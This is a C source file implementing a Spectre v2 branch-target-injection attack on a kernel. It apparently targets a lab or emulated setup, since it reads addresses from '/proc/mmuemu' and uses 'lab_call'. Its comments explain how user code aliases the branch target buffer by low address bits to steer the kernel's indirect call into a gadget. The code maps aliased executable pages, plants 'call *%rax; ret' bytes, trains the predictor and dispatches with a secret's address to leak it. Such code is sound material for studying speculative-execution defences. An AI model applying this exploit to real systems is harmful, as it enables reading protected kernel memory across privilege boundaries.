/*
 * Spectre v2 against the kernel: user code teaches the branch target buffer where the kernel's call shall go.
 *
 * The buffer knows branches by the low bits of their addresses, and keeps of a target the low 32 bits. So a call of
 * ours that stands where those bits are the same as at the kernel's call, and goes where they are the same as at the
 * kernel's gadget, predicts that the kernel's call goes to the gadget. It is kernel code, so SMEP has no objection.
 * The kernel's function table has been flushed; until the real target arrives, the gadget reads what R8 points to.
 */
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

#define ALIAS 0x100000000000UL /* where we build what the buffer takes for the kernel */

static u64 secret;
static u8 *our_branch, *our_gadget;

/* Memory at the place of ours that looks like `kernels`. */
static u8 *alias(u64 kernels)
{
    u64 ours = ALIAS | (kernels & 0xffffffff);
    map((void *)(ours & -PAGE), 2 * PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
        MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);
    return (u8 *)ours;
}

static int prepare(u64 bytes)
{
    u64 branch = read_number("/proc/mmuemu/branch_address"), gadget = read_number("/proc/mmuemu/gadget_address");
    (void)bytes;
    secret = secret_address();
    if (!secret || !branch || !gadget)
        return 0;
    our_branch = alias(branch);
    our_gadget = (gadget ^ branch) / PAGE ? alias(gadget) : our_branch - branch + gadget;
    memcpy(our_branch, "\xff\xd0\xc3", 3); /* call *%rax; ret */
    memcpy(our_gadget, "\xc3", 1);         /* ret */
    return 1;
}

static void train(void)
{
    __asm__ volatile("call *%0" : : "r"(our_branch), "a"(our_gadget) : "memory");
}

static void attempt(u64 index)
{
    for (int more = trainings(); more > 0; more--)
        train();
    flush_probe();
    kernel_uses_secret();
    lab_call(LAB_FLUSH, LINE_OF_TABLE, 0, 0, 0);
    lab_call(LAB_DISPATCH, 0, probe, 12, secret + index);
}

static void done(void)
{
}
